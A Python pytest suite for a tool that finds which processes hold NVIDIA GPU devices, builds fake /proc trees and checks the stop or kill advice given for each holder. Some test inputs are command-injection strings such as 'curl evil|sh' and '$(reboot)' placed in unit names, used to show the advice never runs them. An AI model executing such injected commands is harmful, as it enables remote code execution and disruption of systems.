"""Who holds a GPU: control groups of every shape, a process tree in a folder, and real processes."""

from __future__ import annotations

import os
import re
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugin.cli.holders import _COMMANDS, advise, lines_of, name_pods
from plugin.holdings.holders.scan import Holder, Listing, list_holders, read_dri_nodes
from tests.waiting import wait_until

ID = "4f1c" * 16
UID = "0f3b7a52-9d1e-4c60-8a77-3f1d5e6b9a10"
MPS_UNIT = "grapnel-mps-GPU-00000000-0000-0000-0000-000000000000.service"
MIRROR_UID = "5a1c0e9b7d3f42688bb0c1d2e3f40516"


class Proc:
    """A folder in the form of /proc."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        (folder / "sys").mkdir()

    def add(self, pid: int, *targets: str, maps: str = "", cgroup: str = "0::/\n") -> None:
        process = self.folder / str(pid)
        (process / "fd").mkdir(parents=True)
        for number, target in enumerate(targets):
            (process / "fd" / str(number)).symlink_to(target)
        (process / "maps").write_text(maps)
        (process / "cgroup").write_text(cgroup)
        (process / "comm").write_text(f"program-{pid}\n")


@pytest.fixture
def proc(tmp_path: Path) -> Proc:
    return Proc(tmp_path)


def test_descriptors_and_mappings_count_and_nothing_else(proc: Proc) -> None:
    mapping = "7f00-7f01 rw-s 00000000 00:05 123                        /dev/nvidia-uvm (deleted)\n"
    other = (
        "7f02-7f03 r-xp 00000000 08:01 9      /usr/lib/libnvidia-ml.so.535.261.03\n7f04-7f05 rw-p 00000000 00:00 0\n"
    )
    proc.add(9, "/dev/null", "socket:[1]", "/usr/lib/nvidia/x", maps=other)
    proc.add(100, "/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia0", cgroup=f"0::/kubepods/pod{UID}/{ID}\n")
    proc.add(20, "/dev/null", maps=other + mapping)
    proc.add(30, "/dev/nvidia-caps/nvidia-cap1 (deleted)")
    assert list_holders(proc.folder) == Listing(
        (
            Holder(20, "program-20", ("/dev/nvidia-uvm",)),
            Holder(30, "program-30", ("/dev/nvidia-caps/nvidia-cap1",)),
            Holder(100, "program-100", ("/dev/nvidia0", "/dev/nvidiactl"), None, UID, ID),
        )
    )


def test_graphics_nodes_of_nvidia_gpus_count_and_those_of_others_do_not(proc: Proc, tmp_path: Path) -> None:
    vendors = {
        "card0": "0x1a03",
        "card1": "0x10de",
        "renderD128": "0x10de",
        "card1-DP-1": "0x10de",
        "version": "0x10de",
    }
    for name, vendor in vendors.items():
        (tmp_path / "sys/class/drm" / name / "device").mkdir(parents=True)
        (tmp_path / "sys/class/drm" / name / "device/vendor").write_text(f"{vendor}\n")
    proc.add(1, "/dev/dri/card0")
    proc.add(2, "/dev/dri/renderD128", "/dev/dri/card0")
    proc.add(3, maps="7f00-7f01 rw-s 00000000 00:05 1                        /dev/dri/card1\n")
    nodes = read_dri_nodes(tmp_path / "sys")
    assert nodes == {"/dev/dri/card1", "/dev/dri/renderD128"}
    found = {holder.pid: holder.devices for holder in list_holders(proc.folder, dri_nodes=nodes).holders}
    assert found == {2: ("/dev/dri/renderD128",), 3: ("/dev/dri/card1",)}
    assert read_dri_nodes(tmp_path / "absent") == frozenset()


def test_pods_are_named_where_the_kubelet_has_a_log(proc: Proc, tmp_path: Path) -> None:
    logs = tmp_path / "log"
    for name in (
        f"shop_web-7f9c_{UID}/web",
        f"kube-system_static-n1_{MIRROR_UID}/a",
        f"kube-system_static-n1_{MIRROR_UID}/b",
    ):
        (logs / "pods" / name).mkdir(parents=True)
    proc.add(6, "/dev/nvidia0")
    proc.add(7, "/dev/nvidia0", cgroup=f"0::/kubepods/pod{UID}/{ID}\n")
    proc.add(8, "/dev/nvidia0", cgroup=f"0::/kubepods/pod{UID[:-1]}f/{ID}\n")
    proc.add(9, "/dev/nvidia0", cgroup=f"0::/kubepods/pod{MIRROR_UID}/{ID}\n")
    named = name_pods(list_holders(proc.folder).holders, logs)
    assert [(holder.pid, holder.pod_name, holder.container_name) for holder in named] == [
        (6, None, None),
        (7, "shop/web-7f9c", "web"),
        (8, None, None),
        (9, "kube-system/static-n1", None),
    ]
    assert [holder.pod_name for holder in name_pods(named[2:3], tmp_path / "absent")] == [None]


def holder(command: str = "python3", **where: str) -> Holder:
    return Holder(4711, command, ("/dev/nvidia0",), **where)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("who", "advice"),
    [
        pytest.param(
            holder("nv-hostengine", pod_uid=UID, pod_name="monitoring/dcgm-x7", container_id=ID),
            "kubectl delete pod -n monitoring dcgm-x7 ends it, kubectl drain moves it; "
            "where a DaemonSet runs it, drain leaves it and it comes back: keep that off this node first",
            id="a pod, whatever runs in it",
        ),
        pytest.param(
            holder(pod_uid=UID, unit="containerd.service"),
            f"kubectl get pods -A -o wide, and look for uid {UID}",
            id="a pod without a log",
        ),
        pytest.param(
            holder("nvidia-persiste", unit="nvidia-persistenced.service"),
            "systemctl stop nvidia-persistenced",
            id="persistence daemon",
        ),
        pytest.param(holder("nv-hostengine"), "systemctl stop nvidia-dcgm", id="dcgm"),
        pytest.param(holder("nvidia-cuda-mps"), "echo quit | nvidia-cuda-mps-control", id="mps"),
        pytest.param(
            holder("Xorg", unit="gdm.service"),
            "systemctl isolate multi-user.target: the display comes back with graphical.target",
            id="a display",
        ),
        pytest.param(
            holder("python3", unit="grapnel-node.service"),
            "systemctl restart grapnel-node: a released daemon never asks the driver",
            id="the daemon itself, whose driver hangs",
        ),
        pytest.param(
            holder("nvidia-cuda-mps", unit=MPS_UNIT),
            f"systemctl stop -- {MPS_UNIT} ends it with its clients; grapnel-node does so after the last one",
            id="a server of MPS that grapnel-node started",
        ),
        pytest.param(
            holder("nvidia-cuda-mps", unit="session-3.scope"),
            "somebody's login session: ask them, or loginctl terminate-session 3",
            id="somebody's process that calls itself a server of MPS",
        ),
        pytest.param(
            holder("nvidia-persiste", unit="user@1000.service"), "kill 4711", id="one that calls itself persistence"
        ),
        pytest.param(
            holder("nv-fabricmanage", unit=f"docker-{ID}.scope", container_id=ID),
            "docker stop 4f1c4f1c4f1c",
            id="a container's that calls itself fabric manager",
        ),
        pytest.param(
            holder("nvidia-cuda-mps", unit="grapnel-mps-x;id.service"),
            "echo quit | nvidia-cuda-mps-control",
            id="a server of MPS in a unit of nearly that name",
        ),
        pytest.param(holder(unit=f"docker-{ID}.scope", container_id=ID), "docker stop 4f1c4f1c4f1c", id="docker"),
        pytest.param(holder(unit=f"libpod-{ID}.scope", container_id=ID), "podman stop 4f1c4f1c4f1c", id="podman"),
        pytest.param(
            holder(unit="session-3.scope"),
            "somebody's login session: ask them, or loginctl terminate-session 3",
            id="a shell",
        ),
        pytest.param(holder(unit="job.service"), "systemctl stop -- job.service", id="a service"),
        pytest.param(holder(unit="user@1000.service"), "kill 4711", id="a program of somebody's session manager"),
        pytest.param(holder(unit="ssh.service"), "kill 4711", id="a program below ssh, which is not to be stopped"),
        pytest.param(
            holder(unit="sshd@7-10.0.0.1:22.service"), "kill 4711", id="a program below one connection of ssh"
        ),
        pytest.param(holder(unit="a;curl evil|sh .service"), "kill 4711", id="a name that no unit has"),
        pytest.param(holder(unit="$(reboot).scope"), "kill 4711", id="a name that a shell would run"),
        pytest.param(holder(unit="x" * 300 + ".service"), "kill 4711", id="a name that is too long"),
        pytest.param(holder(unit="session-$(id).scope"), "kill 4711", id="not a session"),
        pytest.param(
            holder(unit=r"run-\x2dq.service"), r"systemctl stop -- 'run-\x2dq.service'", id="a name with an escape"
        ),
        pytest.param(holder(unit="--now.service"), "systemctl stop -- --now.service", id="a name like an option"),
        pytest.param(
            holder(unit="user@1000.service", container_id=ID), "kill 4711", id="a container of somebody's own engine"
        ),
        pytest.param(holder(), "kill 4711", id="nobody's"),
    ],
)
def test_each_holder_comes_with_what_to_do_about_it(who: Holder, advice: str) -> None:
    assert advise(who) == advice


@given(unit=st.text(), command=st.text(), pod=st.text())
def test_no_advice_runs_what_a_name_says(unit: str, command: str, pod: str) -> None:
    """Everything but a quoted word of these commands is ours."""
    for who in (holder(command, unit=f"{unit}.service"), holder(command, unit=f"session-{unit}.scope")):
        advice = advise(who)
        assert advice in (*_COMMANDS.values(), "kill 4711") or advice.startswith(
            ("systemctl stop -- ", "somebody's login session", "systemctl restart grapnel-node:")
        )
        if advice.startswith("systemctl stop -- "):
            assert shlex.split(advice) == ["systemctl", "stop", "--", f"{unit}.service"]
            assert re.fullmatch(r"[\w:.@'\\-]+", advice.removeprefix("systemctl stop -- "), re.ASCII)
    named = advise(holder(pod_uid=UID, pod_name=f"shop/{pod}"))
    assert shlex.split(named.partition("kubectl delete")[2].rpartition(" ends it, ")[0])[-1] == pod


def test_names_that_a_user_chose_are_fit_to_be_shown(proc: Proc) -> None:
    proc.add(7, "/dev/nvidia\x1b]0;x\x07")
    (proc.folder / "7/comm").write_text("\x1b[2Jevil\n")
    (proc.folder / "7/cgroup").write_text("0::/system.slice/a\x9b;\x85" + "b" * 400 + ".service\n")

    (found,) = list_holders(proc.folder).holders

    assert found.command == r"\x1b[2Jevil"
    assert found.devices == (r"/dev/nvidia\x1b]0;x\x07",)
    assert found.unit is not None
    assert found.unit.startswith(r"a\x9b;\x85bbb")
    assert len(found.unit) <= 256
    assert all(line.isprintable() for line in "\n".join(lines_of([found], [])).split("\n"))
    assert advise(found) == "kill 7"


@pytest.mark.parametrize("between", ["x\x85/", "x\r0::"])
def test_a_unit_that_a_user_made_below_another_is_not_believed(proc: Proc, between: str) -> None:
    """The kernel forbids no character but the line feed in a group's name: what else ends a line is part of it."""
    proc.add(7, "/dev/nvidia0")
    forged = f"0::/user.slice/user-1000.slice/user@1000.service/{between}nvidia-persistenced.service\n"
    (proc.folder / "7/cgroup").write_bytes(forged.encode())

    (found,) = list_holders(proc.folder).holders

    assert found.unit == "user@1000.service"
    assert advise(found) == "kill 7"


def test_the_lister_itself_is_nobody(proc: Proc) -> None:
    proc.add(7, "/dev/nvidia0")
    proc.add(8, "/dev/nvidia0")
    assert [holder.pid for holder in list_holders(proc.folder, own_pid=7).holders] == [8]


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become somebody else")
def test_a_process_that_may_not_be_looked_into_is_named() -> None:
    """As nobody: root's own processes are out of reach then, as confined ones are for root."""
    script = (
        "import os, sys; from pathlib import Path; from plugin.holdings.holders.scan import list_holders\n"
        "os.setuid(65534); print(*list_holders(Path('/proc')).hidden)"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert str(os.getpid()) in done.stdout.split()


@pytest.mark.parametrize("name", ["²", "7²", "\u0663"])
def test_a_folder_whose_name_is_no_number_is_no_process(proc: Proc, name: str) -> None:
    (proc.folder / name / "fd").mkdir(parents=True)
    (proc.folder / name / "fd/0").symlink_to("/dev/nvidia0")
    assert list_holders(proc.folder) == Listing()


def test_a_process_that_ends_meanwhile_is_nobody(proc: Proc) -> None:
    proc.add(7, "/dev/nvidia0")
    (proc.folder / "7/maps").unlink()
    assert list_holders(proc.folder) == Listing()


def test_a_file_with_such_a_name_is_no_device(proc: Proc, tmp_path: Path) -> None:
    lookalike = tmp_path / "dev"
    lookalike.mkdir()
    (lookalike / "nvidia0").write_text("")
    proc.add(7, str(lookalike / "nvidia0"))
    assert list_holders(proc.folder) == Listing()


@pytest.mark.functional
@pytest.mark.skipif(os.geteuid() != 0, reason="device nodes are made by root")
def test_a_real_process_is_found_and_gone(tmp_path: Path) -> None:
    folder = tmp_path / "dev"
    folder.mkdir()
    os.mknod(folder / "nvidia0", stat.S_IFCHR | 0o600, os.makedev(1, 3))
    script = "import sys; held = open(sys.argv[1]); print(flush=True); input()"
    command = [sys.executable, "-c", script, str(folder / "nvidia0")]

    def mine() -> list[Holder]:
        return [
            holder for holder in list_holders(Path("/proc")).holders if holder.devices == (str(folder / "nvidia0"),)
        ]

    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        process.stdout.readline()
        assert [holder.pid for holder in mine()] == [process.pid]
        process.kill()
    wait_until(lambda: not mine(), lambda: "a process that ended is still listed")
